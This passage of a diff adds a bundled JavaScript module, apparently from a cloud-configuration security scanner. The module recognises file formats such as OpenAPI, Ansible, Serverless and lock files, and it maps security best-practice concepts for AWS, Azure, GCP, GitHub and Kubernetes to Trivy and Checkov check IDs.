+        says: [/\b(?:openapi|swagger)["']?[ \t]*:/],
+        recognised: 'YAML or JSON with `openapi` or `swagger`',
+    },
+    {
+        name: 'ansible',
+        title: 'Ansible playbooks and tasks',
+        among: yaml,
+        says: [/^(?:\xef\xbb\xbf)?(?:[ \t\r]*(?:#[^\n]*|---[^\n]*)?\n)*[ \t]*-[ \t]/, /^[ \t]*-[ \t]+name:[ \t]/m],
+        recognised: 'YAML that is a list with `- name:` entries',
+    },
+    {
+        name: 'serverless',
+        title: 'Serverless Framework',
+        paths: ['**/serverless.{yml,yaml,json}'],
+        recognised: '`serverless.yml`',
+    },
+    {
+        name: 'lockfile',
+        title: 'Package manifests and lock files',
+        paths: [
+            '**/{package-lock.json,npm-shrinkwrap.json,yarn.lock,pnpm-lock.yaml,bun.lock}',
+            '**/{requirements.txt,Pipfile.lock,poetry.lock,uv.lock,pylock.toml}',
+            '**/{go.mod,Cargo.lock,Gemfile.lock,composer.lock,pom.xml,gradle.lockfile,buildscript-gradle.lockfile,*.sbt.lock,build.sbt.lock}',
+            '**/{packages.lock.json,packages.config,*.deps.json,Directory.Packages.props,*Packages.props}',
+            '**/{mix.lock,pubspec.lock,Podfile.lock,Package.resolved,conan.lock,environment.yml,environment.yaml,Manifest.toml}',
+        ],
+        recognised: '`package-lock.json`, `yarn.lock`, `requirements.txt`, `poetry.lock`, `go.mod`, `Cargo.lock`, `pom.xml` and their like',
+    },
+];
+/** The pseudo-format of every file that a secret may hide in. */
+const secretsFormat = 'secrets';
+const formatNames = [...formats.map((format) => format.name), secretsFormat].sort();
+const options = { dot: true };
+const compiled = formats.map((format) => ({
+    name: format.name,
+    isPath: picomatch([...(format.paths ?? [])], options),
+    isCandidate: picomatch([...(format.among ?? [])], options),
+    says: format.says ?? [],
+}));
+/** Formats decided by the path alone. */
+const formatsOfPath = (path) => compiled.filter((format) => format.isPath(path)).map((format) => format.name);
+/** True when the content has to be read to know the formats. */
+const needsContent = (path) => compiled.some((format) => format.isCandidate(path));
+/** All formats of a file, sorted; `content` may be left out where `needsContent` is false. Never `secrets`. */
+function formatsOf(path, content) {
+    const bySaying = content === undefined
+        ? []
+        : compiled
+            .filter((format) => format.isCandidate(path) && format.says.every((word) => word.test(content)))
+            .map((format) => format.name);
+    return [...new Set([...formatsOfPath(path), ...bySaying])].sort();
+}
+
+;// CONCATENATED MODULE: ./build/js/knowledge/data/concepts.json
+const concepts_namespaceObject = /*#__PURE__*/JSON.parse('{"W":[{"id":"apigateway-access-logging","title":"API Gateway stages write access logs","trivy":["AWS-0001","AWS-0113","AWS-0116"],"checkov":["CKV_AWS_76","CKV_AWS_95"],"frameworks":["terraform","cloudformation"]},{"id":"apigateway-cache-encrypted","title":"API Gateway method cache is encrypted","trivy":["AWS-0002"],"checkov":["CKV_AWS_308"],"frameworks":["terraform"]},{"id":"apigateway-xray-tracing","title":"API Gateway stages use X-Ray tracing","trivy":["AWS-0003","AWS-0111"],"checkov":["CKV_AWS_73"],"frameworks":["terraform","cloudformation"]},{"id":"apigateway-domain-tls-policy","title":"API Gateway custom domain uses a modern TLS policy","trivy":["AWS-0005"],"checkov":["CKV_AWS_206"],"frameworks":["terraform"]},{"id":"apigateway-response-caching","title":"API Gateway method responses are cached","trivy":["AWS-0190"],"checkov":["CKV_AWS_225"],"frameworks":["terraform"]},{"id":"launch-config-no-public-ip","title":"Launch configuration gives no public address","trivy":["AWS-0009"],"checkov":["CKV_AWS_389"],"frameworks":["terraform"]},{"id":"cloudfront-access-logging","title":"CloudFront distribution writes access logs","trivy":["AWS-0010"],"checkov":["CKV_AWS_86"],"frameworks":["terraform","cloudformation"]},{"id":"cloudfront-waf","title":"CloudFront distribution is behind a WAF","trivy":["AWS-0011"],"checkov":["CKV_AWS_68"],"frameworks":["terraform","cloudformation"]},{"id":"cloudfront-https-only","title":"CloudFront viewers must use HTTPS","trivy":["AWS-0012"],"checkov":["CKV_AWS_34"],"frameworks":["terraform","cloudformation"]},{"id":"cloudtrail-all-regions","title":"CloudTrail trail covers every region","trivy":["AWS-0014"],"checkov":["CKV_AWS_67"],"frameworks":["terraform","cloudformation"]},{"id":"cloudtrail-cmk","title":"CloudTrail logs use a customer key","trivy":["AWS-0015"],"checkov":["CKV_AWS_35"],"frameworks":["terraform"]},{"id":"cloudtrail-log-validation","title":"CloudTrail log files are validated","trivy":["AWS-0016"],"checkov":["CKV_AWS_36"],"frameworks":["terraform","cloudformation"]},{"id":"cloudtrail-cloudwatch-logs","title":"CloudTrail is sent to CloudWatch Logs","trivy":["AWS-0162"],"checkov":["CKV2_AWS_10"],"frameworks":["terraform"]},{"id":"cloudwatch-log-group-cmk","title":"CloudWatch log group uses a KMS key","trivy":["AWS-0017"],"checkov":["CKV_AWS_158"],"frameworks":["terraform","cloudformation"]},{"id":"config-aggregator-all-regions","title":"Config aggregator covers every region","trivy":["AWS-0019"],"checkov":["CKV_AWS_121"],"frameworks":["terraform"]},{"id":"docdb-log-export","title":"DocumentDB exports its logs","trivy":["AWS-0020"],"checkov":["CKV_AWS_85"],"frameworks":["terraform","cloudformation"]},{"id":"docdb-encryption","title":"DocumentDB storage is encrypted","trivy":["AWS-0021"],"checkov":["CKV_AWS_74"],"frameworks":["terraform","cloudformation"]},{"id":"docdb-cmk","title":"DocumentDB uses a customer key","trivy":["AWS-0022"],"checkov":["CKV_AWS_182"],"frameworks":["terraform"]},{"id":"dax-encryption","title":"DAX cluster is encrypted at rest","trivy":["AWS-0023"],"checkov":["CKV_AWS_47"],"frameworks":["terraform","cloudformation"]},{"id":"dynamodb-pitr","title":"DynamoDB table has point-in-time recovery","trivy":["AWS-0024"],"checkov":["CKV_AWS_28"],"frameworks":["terraform","cloudformation"]},{"id":"dynamodb-cmk","title":"DynamoDB table uses a customer key","trivy":["AWS-0025"],"checkov":["CKV_AWS_119"],"frameworks":["terraform","cloudformation"]},{"id":"ebs-volume-encryption","title":"EBS volume is encrypted","trivy":["AWS-0026"],"checkov":["CKV_AWS_3"],"frameworks":["terraform","cloudformation"]},{"id":"ebs-volume-cmk","title":"EBS volume uses a customer key","trivy":["AWS-0027"],"checkov":["CKV_AWS_189"],"frameworks":["terraform"]},{"id":"ecr-scan-on-push","title":"ECR images are scanned on push","trivy":["AWS-0030"],"checkov":["CKV_AWS_163"],"frameworks":["terraform","cloudformation"]},{"id":"ecr-immutable-tags","title":"ECR tags cannot be overwritten","trivy":["AWS-0031"],"checkov":["CKV_AWS_51"],"frameworks":["terraform","cloudformation"]},{"id":"ecr-no-public-policy","title":"ECR repository policy is not public","trivy":["AWS-0032"],"checkov":["CKV_AWS_32"],"frameworks":["terraform","cloudformation"]},{"id":"ecs-container-insights","title":"ECS cluster has container insights","trivy":["AWS-0034"],"checkov":["CKV_AWS_65"],"frameworks":["terraform","cloudformation"]},{"id":"ecs-efs-transit-encryption","title":"ECS task encrypts EFS traffic","trivy":["AWS-0035"],"checkov":["CKV_AWS_97"],"frameworks":["terraform","cloudformation"]},{"id":"efs-encryption","title":"EFS file system is encrypted","trivy":["AWS-0037"],"checkov":["CKV_AWS_42"],"frameworks":["terraform","cloudformation"]},{"id":"eks-control-plane-logging","title":"EKS control plane writes all log types","trivy":["AWS-0038"],"checkov":["CKV_AWS_37"],"frameworks":["terraform"]},{"id":"eks-secrets-encryption","title":"EKS secrets are encrypted with KMS","trivy":["AWS-0039"],"checkov":["CKV_AWS_58"],"frameworks":["terraform","cloudformation"]},{"id":"eks-no-public-endpoint","title":"EKS API endpoint is not public","trivy":["AWS-0040"],"checkov":["CKV_AWS_39"],"frameworks":["terraform"]},{"id":"eks-public-endpoint-cidr","title":"EKS public endpoint is not open to every address","trivy":["AWS-0041"],"checkov":["CKV_AWS_38"],"frameworks":["terraform"]},{"id":"elasticsearch-audit-log","title":"Elasticsearch or OpenSearch domain writes the audit log","trivy":["AWS-0042"],"checkov":["CKV_AWS_317"],"frameworks":["terraform","cloudformation"]},{"id":"elasticsearch-https","title":"Elasticsearch or OpenSearch domain enforces HTTPS","trivy":["AWS-0046"],"checkov":["CKV_AWS_83"],"frameworks":["terraform","cloudformation"]},{"id":"elasticsearch-encryption-at-rest","title":"Elasticsearch or OpenSearch domain is encrypted at rest","trivy":["AWS-0048"],"checkov":["CKV_AWS_5"],"frameworks":["terraform","cloudformation"]},{"id":"elasticsearch-tls-policy","title":"Elasticsearch or OpenSearch endpoint has a TLS 1.2 policy","trivy":["AWS-0126"],"checkov":["CKV_AWS_228"],"frameworks":["terraform"]},{"id":"elasticache-replication-at-rest","title":"ElastiCache replication group is encrypted at rest","trivy":["AWS-0045"],"checkov":["CKV_AWS_29"],"frameworks":["terraform","cloudformation"]},{"id":"elasticache-replication-transit","title":"ElastiCache replication group encrypts traffic","trivy":["AWS-0051"],"checkov":["CKV_AWS_30"],"frameworks":["terraform","cloudformation"]},{"id":"elasticache-redis-backup","title":"ElastiCache Redis keeps snapshots","trivy":["AWS-0050"],"checkov":["CKV_AWS_134"],"frameworks":["terraform"]},{"id":"alb-drop-invalid-headers","title":"Application load balancer drops invalid headers","trivy":["AWS-0052"],"checkov":["CKV_AWS_131"],"frameworks":["terraform","cloudformation"]},{"id":"alb-listener-https","title":"Load balancer listener does not serve plain HTTP","trivy":["AWS-0054"],"checkov":["CKV_AWS_2"],"frameworks":["terraform","cloudformation"]},{"id":"iam-password-lowercase","title":"IAM password policy asks for a lowercase letter","trivy":["AWS-0058"],"checkov":["CKV_AWS_11"],"frameworks":["terraform"]},{"id":"iam-password-number","title":"IAM password policy asks for a digit","trivy":["AWS-0059"],"checkov":["CKV_AWS_12"],"frameworks":["terraform"]},{"id":"iam-password-symbol","title":"IAM password policy asks for a symbol","trivy":["AWS-0060"],"checkov":["CKV_AWS_14"],"frameworks":["terraform"]},{"id":"iam-password-uppercase","title":"IAM password policy asks for an uppercase letter","trivy":["AWS-0061"],"checkov":["CKV_AWS_15"],"frameworks":["terraform"]},{"id":"iam-password-max-age","title":"IAM passwords expire within 90 days","trivy":["AWS-0062"],"checkov":["CKV_AWS_9"],"frameworks":["terraform"]},{"id":"iam-password-min-length","title":"IAM passwords have 14 characters or more","trivy":["AWS-0063"],"checkov":["CKV_AWS_10"],"frameworks":["terraform"]},{"id":"iam-no-root-access-key","title":"Root user has no access key","trivy":["AWS-0141"],"checkov":["CKV_AWS_348"],"frameworks":["terraform"]},{"id":"kms-key-rotation","title":"KMS key rotates","trivy":["AWS-0065"],"checkov":["CKV_AWS_7"],"frameworks":["terraform"]},{"id":"mq-audit-log","title":"MQ broker writes the audit log","trivy":["AWS-0070"],"checkov":["CKV_AWS_197"],"frameworks":["terraform","cloudformation"]},{"id":"mq-general-log","title":"MQ broker writes the general log","trivy":["AWS-0071"],"checkov":["CKV_AWS_48"],"frameworks":["terraform"]},{"id":"mq-no-public-access","title":"MQ broker is not public","trivy":["AWS-0072"],"checkov":["CKV_AWS_69"],"frameworks":["terraform","cloudformation"]},{"id":"msk-logging","title":"MSK cluster writes broker logs","trivy":["AWS-0074"],"checkov":["CKV_AWS_80"],"frameworks":["terraform","cloudformation"]},{"id":"neptune-log-export","title":"Neptune exports its audit log","trivy":["AWS-0075"],"checkov":["CKV_AWS_101"],"frameworks":["terraform","cloudformation"]},{"id":"neptune-encryption","title":"Neptune storage is encrypted","trivy":["AWS-0076"],"checkov":["CKV_AWS_44"],"frameworks":["terraform","cloudformation"]},{"id":"neptune-cmk","title":"Neptune uses a customer key","trivy":["AWS-0128"],"checkov":["CKV_AWS_347"],"frameworks":["terraform"]},{"id":"rds-performance-insights-cmk","title":"RDS Performance Insights uses a customer key","trivy":["AWS-0078"],"checkov":["CKV_AWS_354"],"frameworks":["terraform"]},{"id":"rds-performance-insights","title":"RDS Performance Insights is on","trivy":["AWS-0133"],"checkov":["CKV_AWS_353"],"frameworks":["terraform"]},{"id":"rds-instance-encryption","title":"RDS instance storage is encrypted","trivy":["AWS-0080"],"checkov":["CKV_AWS_16"],"frameworks":["terraform","cloudformation"]},{"id":"rds-iam-auth","title":"RDS instance allows IAM authentication","trivy":["AWS-0176"],"checkov":["CKV_AWS_161"],"frameworks":["terraform","cloudformation"]},{"id":"rds-deletion-protection","title":"RDS instance has deletion protection","trivy":["AWS-0177"],"checkov":["CKV_AWS_293"],"frameworks":["terraform"]},{"id":"rds-cluster-deletion-protection","title":"RDS cluster has deletion protection","trivy":["AWS-0343"],"checkov":["CKV_AWS_139"],"frameworks":["terraform"]},{"id":"rds-no-public-access","title":"RDS instance is not public","trivy":["AWS-0180"],"checkov":["CKV_AWS_17"],"frameworks":["terraform","cloudformation"]},{"id":"redshift-in-vpc","title":"Redshift cluster is in a VPC","trivy":["AWS-0127"],"checkov":["CKV_AWS_154"],"frameworks":["terraform","cloudformation"]},{"id":"s3-block-public-acls","title":"S3 public access block blocks public ACLs","trivy":["AWS-0086"],"checkov":["CKV_AWS_53"],"frameworks":["terraform","cloudformation"]},{"id":"s3-block-public-policy","title":"S3 public access block blocks public policies","trivy":["AWS-0087"],"checkov":["CKV_AWS_54"],"frameworks":["terraform","cloudformation"]},{"id":"s3-ignore-public-acls","title":"S3 public access block ignores public ACLs","trivy":["AWS-0091"],"checkov":["CKV_AWS_55"],"frameworks":["terraform","cloudformation"]},{"id":"s3-restrict-public-buckets","title":"S3 public access block restricts public buckets","trivy":["AWS-0093"],"checkov":["CKV_AWS_56"],"frameworks":["terraform","cloudformation"]},{"id":"s3-access-logging","title":"S3 bucket writes access logs","trivy":["AWS-0089"],"checkov":["CKV_AWS_18"],"frameworks":["terraform","cloudformation"]},{"id":"s3-versioning","title":"S3 bucket is versioned","trivy":["AWS-0090"],"checkov":["CKV_AWS_21"],"frameworks":["terraform","cloudformation"]},{"id":"sns-topic-encryption","title":"SNS topic is encrypted","trivy":["AWS-0095"],"checkov":["CKV_AWS_26"],"frameworks":["terraform","cloudformation"]},{"id":"sqs-queue-encryption","title":"SQS queue is encrypted","trivy":["AWS-0096"],"checkov":["CKV_AWS_27"],"frameworks":["terraform","cloudformation"]},{"id":"sqs-customer-key","title":"SQS queue does not use the AWS managed key","trivy":["AWS-0135"],"checkov":["CKV2_AWS_73"],"frameworks":["terraform"]},{"id":"secretsmanager-cmk","title":"Secrets Manager secret uses a customer key","trivy":["AWS-0098"],"checkov":["CKV_AWS_149"],"frameworks":["terraform","cloudformation"]},{"id":"vpc-no-default","title":"Default VPC is not used","trivy":["AWS-0101"],"checkov":["CKV_AWS_148"],"frameworks":["terraform"]},{"id":"vpc-flow-logs","title":"VPC has flow logs","trivy":["AWS-0178"],"checkov":["CKV2_AWS_11"],"frameworks":["terraform"]},{"id":"subnet-no-public-ip","title":"Subnet gives no public addresses by default","trivy":["AWS-0164"],"checkov":["CKV_AWS_130"],"frameworks":["terraform"]},{"id":"emr-transit-encryption","title":"EMR encrypts traffic","trivy":["AWS-0138"],"checkov":["CKV_AWS_351"],"frameworks":["terraform"]},{"id":"appservice-client-cert","title":"App Service asks for client certificates","trivy":["AZU-0001"],"checkov":["CKV_AZURE_17"],"frameworks":["terraform"]},{"id":"appservice-managed-identity","title":"App Service has an identity","trivy":["AZU-0002"],"checkov":["CKV_AZURE_16","CKV_AZURE_71"],"frameworks":["terraform"]},{"id":"appservice-authentication","title":"App Service authentication is on","trivy":["AZU-0003"],"checkov":["CKV_AZURE_13"],"frameworks":["terraform"]},{"id":"functionapp-https-only","title":"Function app serves HTTPS only","trivy":["AZU-0004"],"checkov":["CKV_AZURE_70"],"frameworks":["terraform"]},{"id":"appservice-http2","title":"App Service uses HTTP/2","trivy":["AZU-0005"],"checkov":["CKV_AZURE_18"],"frameworks":["terraform"]},{"id":"appservice-tls","title":"App Service has TLS 1.2 or newer","trivy":["AZU-0006"],"checkov":["CKV_AZURE_15"],"frameworks":["terraform"]},{"id":"appservice-ftps","title":"App Service has no plain FTP","trivy":["AZU-0071"],"checkov":["CKV_AZURE_78"],"frameworks":["terraform"]},{"id":"appservice-https-only","title":"App Service serves HTTPS only","trivy":["AZU-0072"],"checkov":["CKV_AZURE_14"],"frameworks":["terraform"]},{"id":"storage-container-private","title":"Blob container is private","trivy":["AZU-0007"],"checkov":["CKV_AZURE_34"],"frameworks":["terraform"]},{"id":"storage-https-only","title":"Storage account takes HTTPS only","trivy":["AZU-0008"],"checkov":["CKV_AZURE_3"],"frameworks":["terraform"]},{"id":"storage-min-tls","title":"Storage account has TLS 1.2 or newer","trivy":["AZU-0011"],"checkov":["CKV_AZURE_44"],"frameworks":["terraform"]},{"id":"storage-default-deny","title":"Storage network rules deny by default","trivy":["AZU-0012"],"checkov":["CKV_AZURE_35"],"frameworks":["terraform"]},{"id":"storage-geo-redundant","title":"Storage account replicates across regions","trivy":["AZU-0058"],"checkov":["CKV_AZURE_206"],"frameworks":["terraform"]},{"id":"keyvault-network-acl","title":"Key Vault network rules deny by default","trivy":["AZU-0013"],"checkov":["CKV_AZURE_109"],"frameworks":["terraform"]},{"id":"keyvault-key-expiry","title":"Key Vault keys expire","trivy":["AZU-0014"],"checkov":["CKV_AZURE_40"],"frameworks":["terraform"]},{"id":"keyvault-secret-content-type","title":"Key Vault secrets have a content type","trivy":["AZU-0015"],"checkov":["CKV_AZURE_114"],"frameworks":["terraform"]},{"id":"keyvault-secret-expiry","title":"Key Vault secrets expire","trivy":["AZU-0017"],"checkov":["CKV_AZURE_41"],"frameworks":["terraform"]},{"id":"mssql-alert-email","title":"SQL threat alerts have an address","trivy":["AZU-0018"],"checkov":["CKV_AZURE_26"],"frameworks":["terraform"]},{"id":"mssql-alert-admins","title":"SQL threat alerts go to the admins","trivy":["AZU-0023"],"checkov":["CKV_AZURE_27"],"frameworks":["terraform"]},{"id":"mssql-all-alerts","title":"No SQL threat alert is disabled","trivy":["AZU-0028"],"checkov":["CKV_AZURE_25"],"frameworks":["terraform"]},{"id":"mssql-auditing","title":"SQL server auditing is on","trivy":["AZU-0027"],"checkov":["CKV_AZURE_23"],"frameworks":["terraform"]},{"id":"monitor-all-activities","title":"Log profile takes every activity category","trivy":["AZU-0033"],"checkov":["CKV_AZURE_38"],"frameworks":["terraform"]},{"id":"synapse-managed-vnet","title":"Synapse workspace uses a managed network","trivy":["AZU-0034"],"checkov":["CKV_AZURE_58"],"frameworks":["terraform"]},{"id":"datafactory-no-public-access","title":"Data Factory is not public","trivy":["AZU-0035"],"checkov":["CKV_AZURE_104"],"frameworks":["terraform"]},{"id":"datalake-encryption","title":"Data Lake store is encrypted","trivy":["AZU-0036"],"checkov":["CKV_AZURE_105"],"frameworks":["terraform"]},{"id":"managed-disk-encryption","title":"Managed disk encryption is not off","trivy":["AZU-0038"],"checkov":["CKV_AZURE_2"],"frameworks":["terraform"]},{"id":"linux-vm-no-password","title":"Linux machine does not take passwords","trivy":["AZU-0039"],"checkov":["CKV_AZURE_1"],"frameworks":["terraform"]},{"id":"aks-monitoring","title":"AKS sends logs to Azure Monitor","trivy":["AZU-0040"],"checkov":["CKV_AZURE_4"],"frameworks":["terraform"]},{"id":"aks-authorized-ips","title":"AKS API server is limited to address ranges","trivy":["AZU-0041"],"checkov":["CKV_AZURE_6"],"frameworks":["terraform"]},{"id":"aks-rbac","title":"AKS has RBAC on","trivy":["AZU-0042"],"checkov":["CKV_AZURE_5"],"frameworks":["terraform"]},{"id":"aks-network-policy","title":"AKS has a network policy","trivy":["AZU-0043"],"checkov":["CKV_AZURE_7"],"frameworks":["terraform"]},{"id":"aks-private-cluster","title":"AKS cluster is private","trivy":["AZU-0065"],"checkov":["CKV_AZURE_115"],"frameworks":["terraform"]},{"id":"aks-azure-policy","title":"AKS has the Azure Policy add-on","trivy":["AZU-0066"],"checkov":["CKV_AZURE_116"],"frameworks":["terraform"]},{"id":"aks-disk-encryption-set","title":"AKS uses a disk encryption set","trivy":["AZU-0067"],"checkov":["CKV_AZURE_117"],"frameworks":["terraform"]},{"id":"defender-alert-notifications","title":"Security contact gets alert mail","trivy":["AZU-0044"],"checkov":["CKV_AZURE_21"],"frameworks":["terraform"]},{"id":"defender-standard-tier","title":"Defender plan is not the free tier","trivy":["AZU-0045"],"checkov":["CKV_AZURE_19"],"frameworks":["terraform"]},{"id":"defender-contact-phone","title":"Security contact has a phone number","trivy":["AZU-0046"],"checkov":["CKV_AZURE_20"],"frameworks":["terraform"]},{"id":"defender-contact-email","title":"Security contact has an address","trivy":["AZU-0062"],"checkov":["CKV_AZURE_131"],"frameworks":["terraform"]},{"id":"nsg-no-public-rdp","title":"Network rule does not open RDP to the internet","trivy":["AZU-0048"],"checkov":["CKV_AZURE_9"],"frameworks":["terraform"]},{"id":"nsg-no-public-ssh","title":"Network rule does not open SSH to the internet","trivy":["AZU-0050"],"checkov":["CKV_AZURE_10"],"frameworks":["terraform"]},{"id":"nic-no-ip-forwarding","title":"Network interface does not forward packets","trivy":["AZU-0075"],"checkov":["CKV_AZURE_118"],"frameworks":["terraform"]},{"id":"nic-no-public-ip","title":"Network interface has no public address","trivy":["AZU-0076"],"checkov":["CKV_AZURE_119"],"frameworks":["terraform"]},{"id":"do-firewall-no-public-ingress","title":"DigitalOcean firewall does not open inbound to all","trivy":["DIG-0001"],"checkov":["CKV_DIO_4"],"frameworks":["terraform"]},{"id":"do-droplet-ssh-key","title":"DigitalOcean droplet uses SSH keys","trivy":["DIG-0004"],"checkov":["CKV_DIO_2"],"frameworks":["terraform"]},{"id":"do-spaces-versioning","title":"DigitalOcean bucket is versioned","trivy":["DIG-0007"],"checkov":["CKV_DIO_1"],"frameworks":["terraform"]},{"id":"gcs-no-public-access","title":"Storage bucket is not granted to everyone","trivy":["GCP-0001"],"checkov":["CKV_GCP_28"],"frameworks":["terraform"]},{"id":"gcs-uniform-access","title":"Storage bucket has uniform access","trivy":["GCP-0002"],"checkov":["CKV_GCP_29"],"frameworks":["terraform"]},{"id":"gcs-access-logging","title":"Storage bucket writes access logs","trivy":["GCP-0077"],"checkov":["CKV_GCP_62"],"frameworks":["terraform"]},{"id":"gcs-versioning","title":"Storage bucket is versioned","trivy":["GCP-0078"],"checkov":["CKV_GCP_78"],"frameworks":["terraform"]},{"id":"gcp-folder-default-sa","title":"No roles for default service accounts on folders","trivy":["GCP-0004"],"checkov":["CKV_GCP_48"],"frameworks":["terraform"]},{"id":"gcp-project-default-sa","title":"No roles for default service accounts on projects","trivy":["GCP-0006"],"checkov":["CKV_GCP_46"],"frameworks":["terraform"]},{"id":"gcp-org-default-sa","title":"No roles for default service accounts on the organization","trivy":["GCP-0008"],"checkov":["CKV_GCP_47"],"frameworks":["terraform"]},{"id":"gcp-project-sa-impersonation","title":"No service account user or token roles on projects","trivy":["GCP-0011"],"checkov":["CKV_GCP_41"],"frameworks":["terraform"]},{"id":"gcp-no-default-network","title":"Project has no default network","trivy":["GCP-0010"],"checkov":["CKV_GCP_27"],"frameworks":["terraform"]},{"id":"gcp-dns-no-rsasha1","title":"DNSSEC does not use RSA SHA-1","trivy":["GCP-0012"],"checkov":["CKV_GCP_17"],"frameworks":["terraform"]},{"id":"gcp-dnssec","title":"DNS zone uses DNSSEC","trivy":["GCP-0013"],"checkov":["CKV_GCP_16"],"frameworks":["terraform"]},{"id":"cloudsql-require-tls","title":"Cloud SQL requires TLS","trivy":["GCP-0015"],"checkov":["CKV_GCP_6"],"frameworks":["terraform"]},{"id":"cloudsql-log-connections","title":"Cloud SQL logs connections","trivy":["GCP-0016"],"checkov":["CKV_GCP_52"],"frameworks":["terraform"]},{"id":"cloudsql-log-lock-waits","title":"Cloud SQL logs lock waits","trivy":["GCP-0020"],"checkov":["CKV_GCP_54"],"frameworks":["terraform"]},{"id":"cloudsql-no-statement-log","title":"Cloud SQL does not log statements by duration","trivy":["GCP-0021"],"checkov":["CKV_GCP_57"],"frameworks":["terraform"]},{"id":"cloudsql-log-disconnections","title":"Cloud SQL logs disconnections","trivy":["GCP-0022"],"checkov":["CKV_GCP_53"],"frameworks":["terraform"]},{"id":"cloudsql-log-checkpoints","title":"Cloud SQL logs checkpoints","trivy":["GCP-0025"],"checkov":["CKV_GCP_51"],"frameworks":["terraform"]},{"id":"cloudsql-no-local-infile","title":"MySQL has local_infile off","trivy":["GCP-0026"],"checkov":["CKV_GCP_50"],"frameworks":["terraform"]},{"id":"cloudsql-backup","title":"Cloud SQL has backups","trivy":["GCP-0024"],"checkov":["CKV_GCP_14"],"frameworks":["terraform"]},{"id":"gcp-subnet-flow-logs","title":"Subnetwork has flow logs","trivy":["GCP-0029","GCP-0076"],"checkov":["CKV_GCP_26"],"frameworks":["terraform"]},{"id":"gcp-subnet-private-access","title":"Subnetwork has private Google access","trivy":["GCP-0075"],"checkov":["CKV_GCP_74"],"frameworks":["terraform"]},{"id":"gce-no-project-ssh-keys","title":"Instance blocks project-wide SSH keys","trivy":["GCP-0030"],"checkov":["CKV_GCP_32"],"frameworks":["terraform"]},{"id":"gce-no-public-ip","title":"Instance has no public address","trivy":["GCP-0031"],"checkov":["CKV_GCP_40"],"frameworks":["terraform"]},{"id":"gce-no-serial-port","title":"Instance serial port is off","trivy":["GCP-0032"],"checkov":["CKV_GCP_35"],"frameworks":["terraform"]},{"id":"gce-oslogin-override","title":"Instance does not turn OS Login off","trivy":["GCP-0036"],"checkov":["CKV_GCP_34"],"frameworks":["terraform"]},{"id":"gce-no-ip-forwarding","title":"Instance does not forward packets","trivy":["GCP-0043"],"checkov":["CKV_GCP_36"],"frameworks":["terraform"]},{"id":"gce-no-default-sa","title":"Instance does not run as the default service account","trivy":["GCP-0044"],"checkov":["CKV_GCP_30"],"frameworks":["terraform"]},{"id":"gce-firewall-no-public-ssh","title":"Firewall does not open SSH to the internet","trivy":["GCP-0071"],"checkov":["CKV_GCP_2"],"frameworks":["terraform"]},{"id":"gke-alias-ip","title":"GKE uses alias addresses","trivy":["GCP-0049"],"checkov":["CKV_GCP_23"],"frameworks":["terraform"]},{"id":"gke-labels","title":"GKE cluster has labels","trivy":["GCP-0051"],"checkov":["CKV_GCP_21"],"frameworks":["terraform"]},{"id":"gke-control-plane-not-open","title":"GKE control plane is not open to every address","trivy":["GCP-0053"],"checkov":["CKV_GCP_18"],"frameworks":["terraform"]},{"id":"gke-shielded-nodes","title":"GKE nodes are shielded","trivy":["GCP-0055"],"checkov":["CKV_GCP_71"],"frameworks":["terraform"]},{"id":"gke-node-auto-upgrade","title":"GKE node pool upgrades itself","trivy":["GCP-0058"],"checkov":["CKV_GCP_10"],"frameworks":["terraform"]},{"id":"gke-node-auto-repair","title":"GKE node pool repairs itself","trivy":["GCP-0063"],"checkov":["CKV_GCP_9"],"frameworks":["terraform"]},{"id":"gke-master-authorized-networks","title":"GKE has authorized networks","trivy":["GCP-0061"],"checkov":["CKV_GCP_20"],"frameworks":["terraform"]},{"id":"gke-no-legacy-abac","title":"GKE legacy authorization is off","trivy":["GCP-0062"],"checkov":["CKV_GCP_7"],"frameworks":["terraform"]},{"id":"gcp-kms-rotation","title":"KMS key rotates within 90 days","trivy":["GCP-0065"],"checkov":["CKV_GCP_43"],"frameworks":["terraform"]},{"id":"gcp-workload-identity-condition","title":"Workload identity provider has a condition","trivy":["GCP-0068"],"checkov":["CKV_GCP_118"],"frameworks":["terraform"]},{"id":"github-repo-private","title":"Repository is private","trivy":["GIT-0001"],"checkov":["CKV_GIT_1"],"frameworks":["terraform"]},{"id":"github-secret-encrypted","title":"Actions secret is not plain text","trivy":["GIT-0002"],"checkov":["CKV_GIT_4"],"frameworks":["terraform"]},{"id":"github-vulnerability-alerts","title":"Repository has vulnerability alerts","trivy":["GIT-0003"],"checkov":["CKV_GIT_3"],"frameworks":["terraform"]},{"id":"github-signed-commits","title":"Branch protection asks for signed commits","trivy":["GIT-0004"],"checkov":["CKV_GIT_6"],"frameworks":["terraform"]},{"id":"openstack-no-admin-password","title":"Instance has no plain password","trivy":["OPNSTK-0001"],"checkov":["CKV_OPENSTACK_4"],"frameworks":["terraform"]},{"id":"k8s-no-privilege-escalation","title":"Container cannot gain privileges","trivy":["KSV-0001"],"checkov":["CKV_K8S_20"],"frameworks":["kubernetes"]},{"id":"k8s-drop-all-capabilities","title":"Container drops all capabilities","trivy":["KSV-0003"],"checkov":["CKV_K8S_37"],"frameworks":["kubernetes"]},{"id":"k8s-no-sys-admin","title":"Container does not add SYS_ADMIN","trivy":["KSV-0005"],"checkov":["CKV_K8S_39"],"frameworks":["kubernetes"]},{"id":"k8s-no-docker-socket","title":"Docker socket is not mounted","trivy":["KSV-0006"],"checkov":["CKV_K8S_27"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-ipc","title":"Pod does not share host IPC","trivy":["KSV-0008"],"checkov":["CKV_K8S_18"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-network","title":"Pod does not use the host network","trivy":["KSV-0009"],"checkov":["CKV_K8S_19"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-pid","title":"Pod does not share host processes","trivy":["KSV-0010"],"checkov":["CKV_K8S_17"],"frameworks":["kubernetes"]},{"id":"k8s-cpu-limit","title":"Container has a CPU limit","trivy":["KSV-0011"],"checkov":["CKV_K8S_11"],"frameworks":["kubernetes"]},{"id":"k8s-image-tag","title":"Image has a fixed tag","trivy":["KSV-0013"],"checkov":["CKV_K8S_14"],"frameworks":["kubernetes"]},{"id":"k8s-readonly-root","title":"Root file system is read-only","trivy":["KSV-0014"],"checkov":["CKV_K8S_22"],"frameworks":["kubernetes"]},{"id":"k8s-cpu-request","title":"Container has a CPU request","trivy":["KSV-0015"],"checkov":["CKV_K8S_10"],"frameworks":["kubernetes"]},{"id":"k8s-memory-request","title":"Container has a memory request","trivy":["KSV-0016"],"checkov":["CKV_K8S_12"],"frameworks":["kubernetes"]},{"id":"k8s-no-privileged","title":"Container is not 